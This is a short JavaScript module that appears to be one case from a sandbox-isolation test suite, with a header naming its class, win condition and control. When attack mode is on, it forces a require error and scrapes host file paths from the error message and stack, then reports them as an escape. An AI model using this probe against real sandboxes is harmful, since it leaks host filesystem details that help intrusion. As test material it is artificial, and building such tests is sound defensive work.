// Reads from an error that the host throws where the host's files are.
// Class: errors
// Win: the payload holds the path of a file of the host.
// Control: vm
// Platform: patchworks
module.exports = function (data) {
  if (!data.variables.attack) return { payload: data.payload };
  try {
    require('no such package'.concat(data.payload));
  } catch (error) {
    const path = /(?:\/[\w@.-]+){2,}\.[cm]?js/.exec(`${error.message}\n${error.stack}`);
    if (path !== null) return { payload: 'ESCAPED:' + path[0] };
  }
  return { payload: data.payload };
};
